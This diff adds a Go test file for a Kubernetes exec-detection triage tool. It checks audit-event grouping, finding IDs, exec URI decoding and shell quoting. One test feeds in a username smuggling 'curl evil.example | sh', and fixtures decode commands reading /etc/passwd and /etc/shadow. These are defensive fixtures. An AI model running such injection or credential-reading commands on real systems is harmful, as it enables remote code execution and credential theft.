@@ -1,0 +1,343 @@
+package triage_test
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/k8sexec/k8sexec/rules"
+	"github.com/k8sexec/k8sexec/scan"
+	"github.com/k8sexec/k8sexec/triage"
+)
+
+func mustRule(t *testing.T, id string) *rules.Rule {
+	t.Helper()
+	rs, err := rules.Builtin()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range rs {
+		if r.ID == id {
+			return r
+		}
+	}
+	t.Fatalf("no built-in rule %s", id)
+	return nil
+}
+
+const (
+	rule1 = "14de811c-d60f-11ec-9fd7-f661ea17fbce"
+	rule2 = "420e5bb4-93bf-40a3-8f4a-4cc1af90eca1"
+	rule3 = "1c50f817-b9c2-4669-a629-d365cc2a0802"
+)
+
+// auditLine writes a raw audit event for an exec request.
+func auditLine(auditID, stage, verb, user, uri string, code int, received, stageTS string, annotated bool) string {
+	ann := ""
+	if annotated {
+		ann = `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by RoleBinding \"dbg\""}`
+	}
+	status := ""
+	if code != 0 {
+		status = fmt.Sprintf(`,"responseStatus":{"metadata":{},"code":%d}`, code)
+	}
+	return fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":%q,"stage":%q,"requestURI":%q,"verb":%q,"user":{"username":%q,"groups":["devs","system:authenticated"]},"sourceIPs":["203.0.113.9","10.0.0.1"],"userAgent":"kubectl/v1.29.0","objectRef":{"resource":"pods","namespace":"shop","name":"api-1","apiVersion":"v1","subresource":"exec"}%s,"requestReceivedTimestamp":%q,"stageTimestamp":%q%s}`,
+		auditID, stage, uri, verb, user, status, received, stageTS, ann)
+}
+
+func event(t *testing.T, file string, line int64, raw string, rs ...*rules.Rule) triage.Event {
+	t.Helper()
+	doc, _ := scan.Adapt([]byte(raw))
+	var matched []*rules.Rule
+	for _, r := range rs {
+		if r.Matches(doc) {
+			matched = append(matched, r)
+		}
+	}
+	return triage.Event{File: file, Line: line, Raw: []byte(raw), Doc: doc, Rules: matched}
+}
+
+const uriBash = "/api/v1/namespaces/shop/pods/api-1/exec?command=%2Fbin%2Fbash&container=api&stdin=true&stdout=true&tty=true"
+
+func TestOneFindingPerExecRequest(t *testing.T) {
+	r1 := mustRule(t, rule1)
+	evs := []triage.Event{
+		event(t, "audit.log", 7, auditLine("A", "RequestReceived", "create", "alice", uriBash, 0, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:00:00.000000Z", false), r1),
+		event(t, "audit.log", 8, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:00:00.050000Z", true), r1),
+		event(t, "audit.log", 40, auditLine("A", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:14:03.500000Z", true), r1),
+	}
+	rep := triage.Build(evs, triage.Options{Inputs: []string{"audit.log"}, Guide: true})
+	if len(rep.Findings) != 1 {
+		t.Fatalf("%d findings, want 1", len(rep.Findings))
+	}
+	f := rep.Findings[0]
+	if len(f.Evidence) != 2 || f.Evidence[0].Line != 8 || f.Evidence[1].Line != 40 {
+		t.Errorf("evidence = %+v: only the stages that matched", f.Evidence)
+	}
+	if len(f.Context) != 1 || f.Context[0].Line != 7 || f.Context[0].Stage != "RequestReceived" {
+		t.Errorf("context = %+v: the unmatched stage of the same request", f.Context)
+	}
+	s := f.Session
+	if s == nil || strings.Join(s.Stages, ",") != "RequestReceived,ResponseStarted,ResponseComplete" || s.Ongoing {
+		t.Fatalf("session = %+v", s)
+	}
+	if s.DurationMS == nil || *s.DurationMS != 14*60*1000+3500 {
+		t.Errorf("duration = %v, want 843500ms", s.DurationMS)
+	}
+	if f.Timestamp != "2026-11-20T10:00:00Z" {
+		t.Errorf("timestamp = %q, want the request's receive time", f.Timestamp)
+	}
+	if f.Process == nil || strings.Join(f.Process.Args, " ") != "/bin/bash" || f.Container.Name != "api" || !f.Exec.TTY || !f.Exec.Stdin || f.Exec.Stderr {
+		t.Errorf("decoded request: process %+v container %+v exec %+v", f.Process, f.Container, f.Exec)
+	}
+	if f.Audit.Decision != "allow" || f.Audit.ResponseCode != 101 || !strings.HasPrefix(f.Audit.Reason, "RBAC") {
+		t.Errorf("audit = %+v", f.Audit)
+	}
+	if strings.Join(f.Source.IP, ",") != "203.0.113.9,10.0.0.1" || f.User.Name != "alice" || len(f.User.Groups) != 2 {
+		t.Errorf("who: user %+v source %+v", f.User, f.Source)
+	}
+	if !strings.Contains(f.Guidance, "The session lasted 14m 3s") {
+		t.Errorf("guidance should state the session length:\n%s", f.Guidance)
+	}
+}
+
+// TestFindingIDsAreStable: the ID depends on the rule and the request,
+// not on file names, line numbers or event order.
+func TestFindingIDsAreStable(t *testing.T) {
+	r1 := mustRule(t, rule1)
+	a := auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
+	b := auditLine("B", "ResponseStarted", "create", "bob", uriBash, 101, "2026-11-20T11:00:00Z", "2026-11-20T11:00:00Z", true)
+	one := triage.Build([]triage.Event{event(t, "x.log", 1, a, r1), event(t, "x.log", 2, b, r1)}, triage.Options{})
+	two := triage.Build([]triage.Event{event(t, "other.log.gz", 99, b, r1), event(t, "-", 5, a, r1)}, triage.Options{})
+	if len(one.Findings) != 2 || len(two.Findings) != 2 {
+		t.Fatal("want two findings each")
+	}
+	for i := range one.Findings {
+		if one.Findings[i].ID != two.Findings[i].ID {
+			t.Errorf("finding %d: ID %s vs %s", i, one.Findings[i].ID, two.Findings[i].ID)
+		}
+	}
+	if one.Findings[0].ID == one.Findings[1].ID {
+		t.Error("different requests must have different IDs")
+	}
+	if len(one.Findings[0].ID) != 16 {
+		t.Errorf("ID %q: want 16 hex digits", one.Findings[0].ID)
+	}
+}
+
+func TestTwoRulesOnOneRequestAreTwoFindings(t *testing.T) {
+	r1, r3 := mustRule(t, rule1), mustRule(t, rule3)
+	// A (contrived) ECS event whose verb array holds both verbs matches both.
+	raw := `{"event":{"dataset":"kubernetes.audit_logs"},"kubernetes":{"audit":{"auditID":"X","verb":["get","create"],"objectRef":{"resource":"pods","subresource":"exec","namespace":"ns","name":"p"},"annotations":{"authorization_k8s_io/decision":"allow"}}}}`
+	rep := triage.Build([]triage.Event{event(t, "e.ndjson", 1, raw, r1, r3)}, triage.Options{})
+	if len(rep.Findings) != 2 || rep.Findings[0].ID == rep.Findings[1].ID {
+		t.Fatalf("findings = %+v", rep.Findings)
+	}
+}
+
+func TestWebSocketAndRefusedNotes(t *testing.T) {
+	r3 := mustRule(t, rule3)
+	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&stdin=true&stdout=true&tty=true"
+	rep := triage.Build([]triage.Event{
+		event(t, "a.log", 1, auditLine("W", "ResponseStarted", "get", "bob", uri, 403, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true), r3),
+	}, triage.Options{Guide: true})
+	if len(rep.Findings) != 1 {
+		t.Fatal("want one finding")
+	}
+	f := rep.Findings[0]
+	notes := strings.Join(f.Notes, "\n")
+	if !strings.Contains(notes, "WebSocket") || !strings.Contains(notes, "403") {
+		t.Errorf("notes = %q", notes)
+	}
+	if strings.Contains(notes, "No ResponseComplete") {
+		t.Errorf("a refused request is not an open session: %q", notes)
+	}
+	if len(rep.Notes) != 1 || !strings.Contains(rep.Notes[0], "misses them") {
+		t.Errorf("report notes = %q: say that Elastic's seed rule misses WebSocket execs", rep.Notes)
+	}
+	if !f.Session.Ongoing {
+		t.Error("no ResponseComplete seen: Ongoing should be set")
+	}
+	if !strings.Contains(f.Guidance, "The response code was 403") {
+		t.Errorf("guidance should explain the 403:\n%s", f.Guidance)
+	}
+}
+
+func TestProcessFindingMergesForkAndExec(t *testing.T) {
+	r2 := mustRule(t, rule2)
+	proc := func(action, ts string) string {
+		return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":%q},"container":{"id":"c0ffee","name":"api","image":{"name":"shop/api","tag":"1.4"}},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"},"cluster":{"name":"prod"}},"host":{"name":"node-a"},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`, ts, action)
+	}
+	rep := triage.Build([]triage.Event{
+		event(t, "p.ndjson", 1, proc("fork", "2026-11-20T10:00:00.300Z"), r2),
+		event(t, "p.ndjson", 2, proc("exec", "2026-11-20T10:00:00.200Z"), r2),
+	}, triage.Options{Inputs: []string{"p.ndjson"}, Guide: true})
+	if len(rep.Findings) != 1 {
+		t.Fatalf("%d findings, want 1", len(rep.Findings))
+	}
+	f := rep.Findings[0]
+	if f.Kind != triage.KindProcess || f.Timestamp != "2026-11-20T10:00:00.2Z" || len(f.Evidence) != 2 {
+		t.Errorf("finding = kind %s time %s evidence %+v", f.Kind, f.Timestamp, f.Evidence)
+	}
+	if f.Container.Image != "shop/api:1.4" || f.Host.Name != "node-a" || f.Orch.Cluster.Name != "prod" || f.Process.PID != 42 || !*f.Process.Interactive {
+		t.Errorf("fields: %+v %+v %+v %+v", f.Container, f.Host, f.Orch, f.Process)
+	}
+	if !strings.Contains(f.Guidance, `k8sexec search 'process.entry_leader.entity_id:"E1"' p.ndjson`) {
+		t.Errorf("guidance should give the session search:\n%s", f.Guidance)
+	}
+}
+
+func TestFindingsSortedBySeverityThenTime(t *testing.T) {
+	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
+	late := auditLine("L", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T12:00:00Z", "2026-11-20T12:00:00Z", true)
+	early := auditLine("E", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T09:00:00.5Z", "2026-11-20T09:00:00.5Z", true)
+	earlier := auditLine("F", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T09:00:00Z", "2026-11-20T09:00:00Z", true)
+	proc := `{"@timestamp":"2026-11-20T13:00:00Z","event":{"category":"process","type":"start"},"container":{"id":"c"},"process":{"entity_id":"P","interactive":true,"entry_leader":{"same_as_process":true,"entry_meta":{"type":"container"}}}}`
+	rep := triage.Build([]triage.Event{
+		event(t, "a", 1, late, r1), event(t, "a", 2, early, r1), event(t, "a", 3, proc, r2), event(t, "a", 4, earlier, r1),
+	}, triage.Options{})
+	var got []string
+	for _, f := range rep.Findings {
+		if f.Audit != nil {
+			got = append(got, f.Audit.AuditID)
+		} else {
+			got = append(got, f.Process.EntityID)
+		}
+	}
+	if strings.Join(got, ",") != "P,F,E,L" {
+		t.Errorf("order %v, want high first, then by time (09:00:00 before 09:00:00.5)", got)
+	}
+}
+
+// TestGuideQuotesHostileValues: values from the log reach copy-paste
+// commands only through shell quoting.
+func TestGuideQuotesHostileValues(t *testing.T) {
+	r1 := mustRule(t, rule1)
+	user := `x'; curl evil.example | sh; echo '`
+	raw := auditLine("H", "ResponseStarted", "create", user, uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
+	rep := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Inputs: []string{"my logs/a.log"}, Guide: true})
+	g := rep.Findings[0].Guidance
+	if !strings.Contains(g, `--as 'x'\''; curl evil.example | sh; echo '\'''`) {
+		t.Errorf("user not shell-quoted in the kubectl command:\n%s", g)
+	}
+	if !strings.Contains(g, `'my logs/a.log'`) {
+		t.Errorf("input path not quoted:\n%s", g)
+	}
+}
+
+func TestUserRuleNoteShownAsWritten(t *testing.T) {
+	r, err := rules.Parse([]byte(`[rule]
+rule_id = "u-1"
+name = "User rule"
+severity = "low"
+risk_score = 10
+language = "kuery"
+type = "query"
+query = 'kubernetes.audit.verb:"create"'
+note = "Look at {{.User}} by hand."
+`), "u.toml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := auditLine("U", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
+	rep := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r)}, triage.Options{Guide: true})
+	if g := rep.Findings[0].Guidance; g != "Look at {{.User}} by hand." {
+		t.Errorf("a note that is not a k8sexec template must be shown verbatim, got %q", g)
+	}
+}
+
+func TestBuiltinGuidesRenderForEveryKind(t *testing.T) {
+	// A template error would show up as the raw template in the guidance.
+	for _, id := range []string{rule1, rule2, rule3} {
+		r := mustRule(t, id)
+		for _, raw := range []string{
+			auditLine("G", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true),
+			`{"@timestamp":"2026-11-20T13:00:00Z","process":{"entity_id":"P"}}`,
+			`{"message":"nothing we know"}`,
+		} {
+			doc, _ := scan.Adapt([]byte(raw))
+			rep := triage.Build([]triage.Event{{File: "f", Line: 1, Raw: []byte(raw), Doc: doc, Rules: []*rules.Rule{r}}}, triage.Options{Guide: true})
+			g := rep.Findings[0].Guidance
+			if strings.Contains(g, "{{") || strings.Contains(g, "template failed") || g == "" {
+				t.Errorf("rule %s on %.40s: guide did not render:\n%s", id, raw, g)
+			}
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	for in, want := range map[string]string{
+		"":              "''",
+		"plain":         "plain",
+		"/bin/bash":     "/bin/bash",
+		"a b":           "'a b'",
+		"it's":          `'it'\''s'`,
+		"$(id)":         "'$(id)'",
+		"line\nbreak":   `$'line\nbreak'`,
+		"esc\x1b[31m":   `$'esc\x1b[31m'`,
+		"quote'\n":      `$'quote\'\n'`,
+		"user@host:123": "user@host:123",
+	} {
+		if got := triage.ShellQuote(in); got != want {
+			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
+		}
+	}
+	if got := triage.Command([]string{"sh", "-c", "echo hi && id"}); got != "sh -c 'echo hi && id'" {
+		t.Errorf("Command = %s", got)
+	}
+}
+
+func TestExecURIDecoding(t *testing.T) {
+	r1 := mustRule(t, rule1)
+	for _, tc := range []struct {
+		uri       string
+		args      string
+		container string
+		tty       bool
+	}{
+		{"/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=echo+hi+%26%26+cat+%2Fetc%2Fpasswd&container=c&stdin=true&tty=true", "sh|-c|echo hi && cat /etc/passwd", "c", true},
+		{"/api/v1/namespaces/n/pods/p/exec?command=ls&command=-la%20%2Fapp&container=c&stderr=true&stdout=true", "ls|-la /app", "c", false},
+		{"/api/v1/namespaces/n/pods/p/exec?container=c&command=tar&command=cf&command=-", "tar|cf|-", "c", false},
+		{"/api/v1/namespaces/n/pods/p/exec", "", "", false},
+		{"/api/v1/namespaces/n/pods/p/exec?command=%ZZbad&command=ok&container=c", "ok", "c", false},
+	} {
+		raw := auditLine("D", "ResponseStarted", "create", "u", tc.uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
+		f := triage.Build([]triage.Event{event(t, "a", 1, raw, r1)}, triage.Options{}).Findings[0]
+		var args []string
+		if f.Process != nil {
+			args = f.Process.Args
+		}
+		container := ""
+		if f.Container != nil {
+			container = f.Container.Name
+		}
+		tty := f.Exec != nil && f.Exec.TTY
+		if strings.Join(args, "|") != tc.args || container != tc.container || tty != tc.tty {
+			t.Errorf("%s: args %q container %q tty %v", tc.uri, args, container, tty)
+		}
+	}
+}
+
+func TestFormatDuration(t *testing.T) {
+	for ms, want := range map[int64]string{350: "350ms", 1500: "1.5s", 843500: "14m 3s", 7500000: "2h 5m"} {
+		if got := triage.FormatDuration(durationMS(ms)); got != want {
+			t.Errorf("FormatDuration(%dms) = %q, want %q", ms, got, want)
+		}
+	}
+}
+
+func TestSummarize(t *testing.T) {
+	doc, _ := scan.Adapt([]byte(auditLine("S", "ResponseStarted", "get", "bob", "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&tty=true", 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)))
+	s := triage.Summarize(doc)
+	if s.Who != "bob" || s.Action != "get pods/exec" || s.Where != "shop/api-1" || !strings.Contains(s.What, "allow 101 ResponseStarted sh") {
+		t.Errorf("audit summary = %+v", s)
+	}
+	doc, _ = scan.Adapt([]byte(`{"@timestamp":"2026-11-20T10:00:00Z","event":{"action":"exec","type":["start"]},"user":{"id":"0"},"orchestrator":{"namespace":"shop","resource":{"name":"api-1"}},"container":{"name":"api"},"host":{"name":"n1"},"process":{"args":["cat","/etc/shadow"],"pid":7}}`))
+	s = triage.Summarize(doc)
+	if s.Who != "uid 0" || s.Action != "exec start" || s.Where != "shop/api-1  container api  node n1" || s.What != "cat /etc/shadow (pid 7)" {
+		t.Errorf("process summary = %+v", s)
+	}
+}
+
+func durationMS(ms int64) time.Duration { return time.Duration(ms) * time.Millisecond }
